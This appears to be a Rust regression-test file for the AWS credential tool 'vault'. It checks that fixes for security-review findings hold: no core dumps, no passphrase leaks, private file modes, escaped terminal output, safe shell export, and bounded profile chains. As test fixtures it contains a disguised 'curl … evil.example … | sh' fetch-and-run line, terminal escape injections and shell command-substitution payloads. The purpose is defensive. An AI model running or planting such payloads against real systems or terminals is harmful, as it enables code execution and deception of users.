//! The security review's findings 4, 5, 6, 8, 9 and 10 (`shared/notes/security-review.md`),
//! each reproduced as the review did and checked closed: no core dumps, the passphrase in no
//! child, private files whatever the umask, no raw control characters on the terminal,
//! shell-exact `export`, and bounded work on hostile configs.
//!
//! Findings 1 and 2 are in `hostile_server.rs`, 3, 7, 10 (KDF) and 11 in `hostile_store.rs`.

mod support;

use std::io::{BufRead, BufReader};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use support::users::LocalUser;
use support::{Home, PASSPHRASE, Run, World};

/// Waits (bounded) for `path` to exist and returns its contents.
fn wait_for(path: &Path) -> String {
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(30) {
        if let Ok(text) = std::fs::read_to_string(path)
            && text.ends_with('\n')
        {
            return text;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    panic!("{} never appeared", path.display());
}

fn executable(path: &Path, script: &str) {
    std::fs::write(path, script).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Finding 4: while vault holds the long-lived keys (here: waiting on `mfa_process`), it is
/// non-dumpable and its core-file limit is 0; the programs it starts, and `exec`'s command,
/// get the limit vault was started with.
#[test]
fn no_core_dumps_while_keys_are_held_and_children_keep_their_limits() {
    let Some((alice, _)) = LocalUser::pair("no_core_dumps") else {
        return;
    };
    let world = World::new();
    let dir = world.home.path().join("mfa");
    std::fs::create_dir(&dir).unwrap();
    let script = dir.join("mfa.sh");
    executable(
        &script,
        &format!(
            "#!/bin/sh\nulimit -c > {d}/child-limit\necho started > {d}/pid\nn=0\nwhile [ ! -e {d}/code ] && [ $n -lt 600 ]; do sleep 0.05; n=$((n + 1)); done\ncat {d}/code\n",
            d = dir.display()
        ),
    );
    let config = std::fs::read_to_string(world.home.path().join(".aws/config")).unwrap();
    world.home.config(&format!(
        "{config}\n[profile waits]\nsource_profile = gds-users\nrole_arn = {}\nmfa_serial = {}\nmfa_process = {}\n",
        world.moto.role_arn("admin"),
        world.serial,
        script.display()
    ));
    alice.own(world.home.path());

    let vault = env!("CARGO_BIN_EXE_vault");
    let mut command = alice.command(
        &world.home,
        "prlimit",
        &[
            "--core=unlimited",
            vault,
            "exec",
            "waits",
            "--",
            "sh",
            "-c",
            "ulimit -c",
        ],
    );
    let child = command.stdout(Stdio::piped()).spawn().unwrap();

    // setpriv and prlimit exec what they run: the child is vault itself.
    let pid = child.id();
    wait_for(&dir.join("pid"));
    let limits = std::fs::read_to_string(format!("/proc/{pid}/limits")).unwrap();
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap();
    let soft: Vec<&str> = core.split_whitespace().collect();
    assert_eq!(soft[4], "0", "vault's core-file soft limit: {core}");
    // A non-dumpable process's /proc files belong to root: other processes of the uid can
    // neither read its memory nor attach to it.
    let environ = std::fs::metadata(format!("/proc/{pid}/environ")).unwrap();
    assert_eq!(environ.uid(), 0, "vault is dumpable");

    std::fs::write(dir.join("code"), format!("{}\n", world.code(0))).unwrap();
    let output = child.wait_with_output().unwrap();
    let run = Run::from(output);
    assert_eq!(run.ok(), "unlimited\n", "exec's command: {run:?}");
    assert_eq!(
        std::fs::read_to_string(dir.join("child-limit")).unwrap(),
        "unlimited\n",
        "mfa_process"
    );
}

/// Finding 5: no program vault starts sees `AWS_VAULT_FILE_PASSPHRASE`: `credential_process`,
/// `mfa_process`, ykman, and `exec --server`'s command.
#[test]
fn the_passphrase_reaches_no_child() {
    let world = World::new();
    let dir = world.home.path().join("envs");
    std::fs::create_dir(&dir).unwrap();
    let dump = |name: &str, then: &str| {
        let path = dir.join(format!("{name}.sh"));
        executable(
            &path,
            &format!("#!/bin/sh\nenv > {}/{name}.env\n{then}\n", dir.display()),
        );
        path
    };
    let code = world.code(0);
    let process_json = r#"{"Version":1,"AccessKeyId":"AKIAPROCESS","SecretAccessKey":"s","SessionToken":"t","Expiration":"2099-01-01T00:00:00Z"}"#;
    let credential_process = dump("credential_process", &format!("echo '{process_json}'"));
    let mfa_process = dump("mfa_process", &format!("echo {code}"));
    let bin = dir.join("bin");
    std::fs::create_dir(&bin).unwrap();
    executable(
        &bin.join("ykman"),
        &format!(
            "#!/bin/sh\nenv > {}/ykman.env\necho {}\n",
            dir.display(),
            world.code(1)
        ),
    );
    let config = std::fs::read_to_string(world.home.path().join(".aws/config")).unwrap();
    world.home.config(&format!(
        "{config}\n[profile process]\ncredential_process = {}\n\n[profile mfa-process]\nsource_profile = gds-users\nrole_arn = {role}\nmfa_serial = {serial}\nmfa_process = {}\n\n[profile mfa-ykman]\nsource_profile = gds-users\nrole_arn = {readonly}\nmfa_serial = {serial}\n",
        credential_process.display(),
        mfa_process.display(),
        role = world.moto.role_arn("admin"),
        readonly = world.moto.role_arn("readonly"),
        serial = world.serial,
    ));

    world.run(&["exec", "process", "--", "true"]).ok();
    world.run(&["exec", "mfa-process", "--", "true"]).ok();
    let mut ykman = world
        .home
        .command(["exec", "-n", "mfa-ykman", "--", "true"]);
    ykman.env(
        "PATH",
        format!("{}:{}", bin.display(), support::test_path()),
    );
    ykman.env("AWS_VAULT_PROMPT", "ykman");
    Run::from(ykman.output().unwrap()).ok();
    let server = world.run(&[
        "exec",
        "--server",
        "process",
        "--",
        "sh",
        "-c",
        &format!("env > {}/server-child.env", dir.display()),
    ]);
    server.ok();

    for name in ["credential_process", "mfa_process", "ykman", "server-child"] {
        let env = std::fs::read_to_string(dir.join(format!("{name}.env")))
            .unwrap_or_else(|e| panic!("{name} did not run: {e}"));
        assert!(env.contains("AWS_VAULT_BACKEND=file"), "{name}: {env}");
        assert!(
            !env.contains("AWS_VAULT_FILE_PASSPHRASE") && !env.contains(PASSPHRASE),
            "{name} got the passphrase"
        );
    }
}

/// Finding 6: with `umask 000`, `vault add` makes `~/.aws` 0700 and the config 0600; an
/// existing config keeps its own mode.
#[test]
fn files_vault_creates_are_private_whatever_the_umask() {
    let mut home = Home::new();
    home.env("AWS_VAULT_BACKEND", "file")
        .env("AWS_VAULT_FILE_PASSPHRASE", PASSPHRASE)
        .env("AWS_VAULT_UNLOCK_TTL", "0")
        .env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
        .env(
            "AWS_SECRET_ACCESS_KEY",
            "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        );
    let aws = home.path().join(".aws");
    std::fs::remove_dir(&aws).unwrap();
    let add = |profile: &str| {
        let vault = env!("CARGO_BIN_EXE_vault");
        let mut command = home.child(
            "sh",
            &[
                "-c",
                &format!("umask 000 && exec {vault} add --env {profile}"),
            ],
        );
        Run::from(command.output().unwrap()).ok().to_string()
    };
    add("p1");
    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&aws), 0o700, "~/.aws");
    assert_eq!(mode(&aws.join("config")), 0o600, "~/.aws/config");

    std::fs::set_permissions(aws.join("config"), std::fs::Permissions::from_mode(0o640)).unwrap();
    add("p2");
    assert_eq!(
        mode(&aws.join("config")),
        0o640,
        "an existing config keeps its mode"
    );
    let config = std::fs::read_to_string(aws.join("config")).unwrap();
    assert_eq!(config, "[profile p1]\n\n[profile p2]\n");
}

/// No raw control character in `text`, which a terminal would act on.
#[track_caller]
fn assert_printable(text: &str) {
    assert!(
        !text
            .chars()
            .any(|c| c.is_control() && c != '\n' && c != '\t'),
        "raw control characters: {text:?}"
    );
}

/// Finding 8: `show` cannot be made to hide a config value; escapes in `mfa_serial` are
/// shown, not acted on; `--json` stays exact JSON.
#[test]
fn show_escapes_control_characters_and_json_stays_exact() {
    let home = Home::new();
    let hidden = "curl -s https://evil.example/x | sh \r\x1b[2K  credential_process  vault export --format json base";
    home.config(&format!(
        "[profile base]\ncredential_process = {hidden}\n\n[profile role]\nsource_profile = base\nrole_arn = arn:aws:iam::123456789012:role/x\nmfa_serial = arn:aws:iam::123456789012:mfa/\x1b]0;pwned-title\x07jane\n"
    ));
    let shown = home.run(["show", "role"]);
    let text = shown.ok();
    assert_printable(text);
    assert!(
        text.contains("curl -s https://evil.example/x | sh \\u{d}\\u{1b}[2K  credential_process"),
        "{text}"
    );
    assert!(
        text.contains("mfa/\\u{1b}]0;pwned-title\\u{7}jane"),
        "{text}"
    );

    let json = home.run(["show", "--json", "base"]);
    let value: serde_json::Value = serde_json::from_str(json.ok()).unwrap();
    let found = value.to_string();
    assert!(
        found.contains(&serde_json::to_string(hidden).unwrap()[1..20]),
        "{found}"
    );
    assert!(json.stdout.contains("\\r\\u001b[2K"), "{}", json.stdout);
}

/// A stand-in STS that answers every call with a crafted error, as a proxy or a hostile
/// `endpoint_url` could. Stopped when dropped.
struct HostileSts {
    child: std::process::Child,
    endpoint: String,
}

impl HostileSts {
    fn start(message: &str) -> HostileSts {
        let script = r#"
import http.server, sys
body = ('<ErrorResponse><Error><Type>Sender</Type><Code>ValidationError</Code><Message>'
        + sys.argv[1] + '</Message></Error><RequestId>x</RequestId></ErrorResponse>').encode()
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        self.rfile.read(int(self.headers.get('Content-Length', 0)))
        self.send_response(400)
        self.send_header('Content-Type', 'text/xml')
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
s = http.server.HTTPServer(('127.0.0.1', 0), H)
print(s.server_port, flush=True)
s.timeout = 60
for _ in range(20):
    s.handle_request()
"#;
        let mut child = Command::new(support::python())
            .args(["-c", script, message])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.as_mut().unwrap())
            .read_line(&mut line)
            .unwrap();
        HostileSts {
            child,
            endpoint: format!("http://127.0.0.1:{}", line.trim()),
        }
    }
}

impl Drop for HostileSts {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Finding 8: an error message from STS (here with escapes as XML character references,
/// which the SDK decodes) is printed escaped, in the error and in `--debug`.
#[test]
fn sts_error_messages_reach_the_terminal_escaped() {
    let sts = HostileSts::start("Rate exceeded &#x1b;[31mRED&#x1b;[0m &#x1b;]0;title&#x7;");
    let mut home = Home::new();
    home.env("AWS_ENDPOINT_URL", &sts.endpoint)
        .env("AWS_VAULT_BACKEND", "file")
        .env("AWS_VAULT_FILE_PASSPHRASE", PASSPHRASE)
        .env("AWS_VAULT_UNLOCK_TTL", "0")
        .env("AWS_DEFAULT_REGION", "eu-west-2")
        .env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
        .env(
            "AWS_SECRET_ACCESS_KEY",
            "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        );
    home.config("[profile base]\n\n[profile role]\nsource_profile = base\nrole_arn = arn:aws:iam::123456789012:role/x\n");
    home.run(["add", "--env", "base"]).ok();
    let run = home.run(["--debug", "exec", "role", "--", "true"]);
    let stderr = run.fails();
    assert_printable(stderr);
    assert!(
        stderr.contains(
            "ValidationError: Rate exceeded \\u{1b}[31mRED\\u{1b}[0m \\u{1b}]0;title\\u{7}"
        ),
        "{stderr}"
    );
}

/// Review 2, finding 8: the `exec --server` and `--ec2-server` endpoints print the errors
/// of the STS calls they make for the command (`/role-arn/`, `--lazy`'s first fetch)
/// escaped, as the main error path does. The command (curl) gets a 500 each time.
#[test]
fn server_errors_reach_the_terminal_escaped() {
    let sts = HostileSts::start("denied &#x1b;]0;TITLE-SET-BY-STS&#x7;&#x1b;[31mRED&#x1b;[0m");
    let mut home = Home::new();
    home.env("AWS_ENDPOINT_URL", &sts.endpoint)
        .env("AWS_VAULT_BACKEND", "file")
        .env("AWS_VAULT_FILE_PASSPHRASE", PASSPHRASE)
        .env("AWS_VAULT_UNLOCK_TTL", "0")
        .env("AWS_DEFAULT_REGION", "eu-west-2");
    let json = home.write(
        "creds.json",
        r#"{"Version":1,"AccessKeyId":"ASIAEXAMPLE","SecretAccessKey":"secret","SessionToken":"token"}"#,
    );
    home.config(&format!(
        "[profile cp]\ncredential_process = cat {}\n\n[profile role]\nsource_profile = cp\nrole_arn = arn:aws:iam::123456789012:role/x\n",
        json.display()
    ));
    let code = "-s -o /dev/null -w '%{http_code}\\n'";
    let ecs = format!(
        "curl {code} -H \"Authorization: $AWS_CONTAINER_AUTHORIZATION_TOKEN\" \"${{AWS_CONTAINER_CREDENTIALS_FULL_URI}}role-arn/arn:aws:iam::123456789012:role/x\""
    );
    let imds = format!(
        "e=$AWS_EC2_METADATA_SERVICE_ENDPOINT; t=$(curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' ${{e}}latest/api/token); curl {code} -H \"X-aws-ec2-metadata-token: $t\" ${{e}}latest/meta-data/iam/security-credentials/local-credentials"
    );
    for args in [
        vec!["exec", "--server", "cp", "--", "sh", "-c", &ecs],
        vec![
            "exec",
            "--ec2-server",
            "--lazy",
            "role",
            "--",
            "sh",
            "-c",
            &imds,
        ],
    ] {
        let run = home.run(&args);
        assert_eq!(run.stdout, "500\n", "{args:?}: {run:#?}");
        assert_eq!(run.status, Some(0), "{args:?}: {run:#?}");
        assert_printable(&run.stderr);
        assert_eq!(
            run.stderr,
            "error: sts.AssumeRole failed: ValidationError: denied \\u{1b}]0;TITLE-SET-BY-STS\\u{7}\\u{1b}[31mRED\\u{1b}[0m\n",
            "{args:?}"
        );
    }
}

/// The calls of a print macro (`eprintln!`, `println!`, `eprint!`, `print!`) in `text`: the
/// text between the parentheses.
fn print_calls(text: &str) -> Vec<(usize, String)> {
    let mut calls = Vec::new();
    for name in ["eprintln!(", "println!(", "eprint!(", "print!("] {
        let mut from = 0;
        while let Some(at) = text[from..].find(name).map(|i| i + from) {
            from = at + name.len();
            let before = text[..at].chars().next_back();
            if before.is_some_and(|c| c.is_alphanumeric() || c == '_') {
                continue; // `eprintln!(` also contains `println!(`
            }
            let line = text[..at].matches('\n').count() + 1;
            let (mut depth, mut in_string, mut escaped) = (1, false, false);
            let body: String = text[from..]
                .chars()
                .take_while(|&c| {
                    match (in_string, escaped, c) {
                        (true, true, _) => escaped = false,
                        (true, false, '\\') => escaped = true,
                        (true, false, '"') => in_string = false,
                        (false, _, '"') => in_string = true,
                        (false, _, '(' | '[' | '{') => depth += 1,
                        (false, _, ')' | ']' | '}') => depth -= 1,
                        _ => {}
                    }
                    depth > 0
                })
                .collect();
            calls.push((line, body));
        }
    }
    calls
}

/// `body` split at its top-level commas.
fn top_level_args(body: &str) -> Vec<String> {
    let (mut args, mut current) = (Vec::new(), String::new());
    let (mut depth, mut in_string, mut escaped) = (0, false, false);
    for c in body.chars() {
        match (in_string, escaped, c) {
            (true, true, _) => escaped = false,
            (true, false, '\\') => escaped = true,
            (true, false, '"') => in_string = false,
            (false, _, '"') => in_string = true,
            (false, _, '(' | '[' | '{') => depth += 1,
            (false, _, ')' | ']' | '}') => depth -= 1,
            (false, _, ',') if depth == 0 => {
                args.push(current.trim().to_string());
                current.clear();
                continue;
            }
            _ => {}
        }
        current.push(c);
    }
    if !current.trim().is_empty() {
        args.push(current.trim().to_string());
    }
    args
}

/// The names in a format string's placeholders, in order (`""` for a positional `{}`).
fn placeholders(format: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut chars = format.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '{' if chars.peek() == Some(&'{') => {
                chars.next();
            }
            '{' => {
                let inside: String = chars.by_ref().take_while(|&c| c != '}').collect();
                names.push(inside.split(':').next().unwrap_or("").to_string());
            }
            _ => {}
        }
    }
    names
}

/// Review 2, finding 8: every value a print macro in `src/` writes to the terminal goes
/// through `text::printable`, except the few below, each of which vault makes itself (a
/// number, a fixed word, its own message). `text.rs` (which escapes) is not searched.
#[test]
fn printed_values_are_escaped_in_src() {
    // (file, placeholder or argument as written): why it needs no escaping.
    let allowed = [
        ("src/debug.rs", "$crate::debug::elapsed_ms()"), // a number
        ("src/prompt/terminal.rs", "text"),              // `printable(text)` a line above
        ("src/commands/login.rs", "problem"), // vault's own text: an OS error, a sock_diag error
        ("src/commands/login.rs", "uid"),     // a number
        ("src/commands/sso.rs", "sessions"),  // a number
        ("src/commands/sso/populate.rs", "done"), // a number
        ("src/commands/sso/populate.rs", "self.total"), // a number
        ("src/commands/sso/populate.rs", "slowed"), // vault's own words and a number
        ("src/commands/sso/populate.rs", "added"), // a number
        (
            "src/commands/sso/populate.rs",
            "if added == 1 { \"\" } else { \"s\" }",
        ),
        ("src/commands/sso/populate.rs", "pairs.len() - added"), // a number
        ("src/sso/login.rs", "why"), // vault's own reasons (`Reason`, `openable`'s refusals)
        ("src/sso/login.rs", "DEVICE_CODE_KEY"), // a constant
        ("src/server/callback.rs", "self.what"), // a `&'static str` of vault's
        ("src/server/callback.rs", "uid"), // a number
        (
            "src/commands/sso.rs",
            "if sessions == 1 { \"\" } else { \"s\" }",
        ),
    ];
    let escaped = |arg: &str| {
        [
            "text::printable(",
            "crate::text::printable(",
            "vault::text::printable(",
        ]
        .iter()
        .any(|p| arg.starts_with(p) || arg.starts_with(&format!("$crate::{}", &p[..])))
    };
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut files = vec![root.join("src")];
    let mut raw = Vec::new();
    let mut calls = 0;
    while let Some(path) = files.pop() {
        if path.is_dir() {
            files.extend(std::fs::read_dir(&path).unwrap().map(|e| e.unwrap().path()));
            continue;
        }
        let name = path.strip_prefix(root).unwrap().display().to_string();
        if path.extension().is_none_or(|e| e != "rs") || name == "src/text.rs" {
            continue;
        }
        let text = std::fs::read_to_string(&path).unwrap();
        for (line, body) in print_calls(&text) {
            calls += 1;
            let args = top_level_args(&body);
            let Some(format) = args.first() else { continue };
            if !format.starts_with('"') {
                raw.push(format!(
                    "{name}:{line}: the format is not a literal: {format}"
                ));
                continue;
            }
            let mut positional = args[1..].iter();
            for placeholder in placeholders(format) {
                let value = if placeholder.is_empty() {
                    match positional.next() {
                        Some(arg) => arg.clone(),
                        None => continue,
                    }
                } else {
                    placeholder
                };
                if !escaped(&value) && !allowed.contains(&(name.as_str(), value.as_str())) {
                    raw.push(format!("{name}:{line}: `{value}` is printed unescaped"));
                }
            }
        }
    }
    assert!(
        calls > 10,
        "found only {calls} print calls: is the search broken?"
    );
    assert!(raw.is_empty(), "{}", raw.join("\n"));
}

/// Runs `script` (fish or bash) with the test HOME's environment; returns stdout.
fn shell(home: &Home, shell: &str, script: &str) -> String {
    let mut command = home.child(shell, &["-c", script]);
    Run::from(command.output().unwrap()).ok().to_string()
}

/// Finding 9: values holding each shell's quote and escape characters come out of every
/// shell format whole, evaluated by the real fish and bash; nothing in them runs.
#[test]
fn export_quotes_hostile_values_for_real_shells() {
    let home = Home::new();
    let token =
        "tok\\'; echo INJECTED; # $(echo INJECTED) `echo INJECTED` $HOME \" \u{2019}\nnext line\\";
    let json = serde_json::json!({
        "Version": 1,
        "AccessKeyId": "ASIAEXAMPLE",
        "SecretAccessKey": "se'cr\\et",
        "SessionToken": token,
        "Expiration": "2099-01-01T00:00:00Z",
    });
    let json_file = home.write("process.json", &json.to_string());
    home.config(&format!(
        "[profile cp]\ncredential_process = cat {}\n",
        json_file.display()
    ));
    let print = "printf '%s|%s' \"$AWS_SECRET_ACCESS_KEY\" \"$AWS_SESSION_TOKEN\"";
    let expected = format!("se'cr\\et|{token}");
    for (format, program) in [("fish", "fish"), ("env", "bash"), ("export-env", "bash")] {
        let out = home.run(["export", "--format", format, "cp"]);
        let file = home.write(&format!("out.{format}"), out.ok());
        let load = if program == "fish" {
            format!("source {}", file.display())
        } else {
            format!("set -a; . {}", file.display())
        };
        let got = shell(&home, program, &format!("{load}; {print}"));
        assert_eq!(got, expected, "{format} in {program}: {}", out.stdout);
        assert!(!got.contains("INJECTED\n"), "{format}");
    }
}

/// A config of `count` profiles, each `source_profile`-chained to the previous, the first
/// with a `credential_process`.
fn long_chain(count: usize) -> String {
    let mut config = String::with_capacity(count * 80);
    config.push_str("[profile p0]\ncredential_process = true\n");
    for i in 1..count {
        config.push_str(&format!(
            "[profile p{i}]\nsource_profile = p{}\nrole_arn = arn:aws:iam::123456789012:role/r{i}\n",
            i - 1
        ));
    }
    config
}

/// Finding 10: a 20,000-role chain is an error naming the limit, never a stack overflow;
/// `list` and `show` on it finish (before: `list` grew faster than quadratically, minutes at
/// this size, and `exec` aborted on a stack overflow).
#[test]
fn a_huge_chain_is_an_error_not_a_crash_or_a_hang() {
    let home = Home::new();
    home.config(&long_chain(20_000));
    let finished = |mut command: Command| {
        let child = command
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // A hang guard, not a timing assertion: resolution is linear now.
        let pid = child.id().to_string();
        let (done, wait) = std::sync::mpsc::channel::<()>();
        let guard = std::thread::spawn(move || {
            if wait.recv_timeout(Duration::from_secs(120)).is_err() {
                let _ = Command::new("kill").args(["-KILL", &pid]).status();
                return true;
            }
            false
        });
        let run = Run::from(child.wait_with_output().unwrap());
        let _ = done.send(());
        assert!(!guard.join().unwrap(), "did not finish: killed");
        run
    };
    let exec = finished(home.command(["exec", "p19999", "--", "true"]));
    assert_eq!(
        exec.fails(),
        "error: the `source_profile` chain of profile `p19999` is longer than 64 profiles\n\
         hint: vault follows at most 64 profiles through `source_profile`; shorten the chain\n"
    );
    let show = finished(home.command(["show", "p19999"]));
    assert!(
        show.fails().contains("is longer than 64 profiles"),
        "{show:?}"
    );
    let list = finished(home.command(["list", "--profiles"]));
    assert_eq!(list.ok().lines().count(), 20_000);

    // The review's size for `list`: 2,000 profiles (12 s before; linear now).
    home.config(&long_chain(2_000));
    let mut list = home.command(["list"]);
    list.env("AWS_VAULT_BACKEND", "file")
        .env("AWS_VAULT_FILE_PASSPHRASE", PASSPHRASE);
    let list = finished(list);
    assert_eq!(list.ok().lines().count(), 2_002);

    // A chain within the limit still resolves to its end.
    home.config(&long_chain(64));
    let shown = home.run(["show", "p63"]);
    assert!(shown.ok().contains("p0"), "{shown:?}");

    let mut includes = String::from("[profile i0]\nregion = eu-west-1\n");
    for i in 1..2_000 {
        includes.push_str(&format!("[profile i{i}]\ninclude_profile = i{}\n", i - 1));
    }
    home.config(&includes);
    let shown = finished(home.command(["show", "i1999"]));
    assert!(
        shown
            .fails()
            .contains("the `include_profile` chain of profile `i1999` is longer than 64"),
        "{shown:?}"
    );
    let listed = finished(home.command(["list"]));
    assert_eq!(listed.ok().lines().count(), 2_002);
}
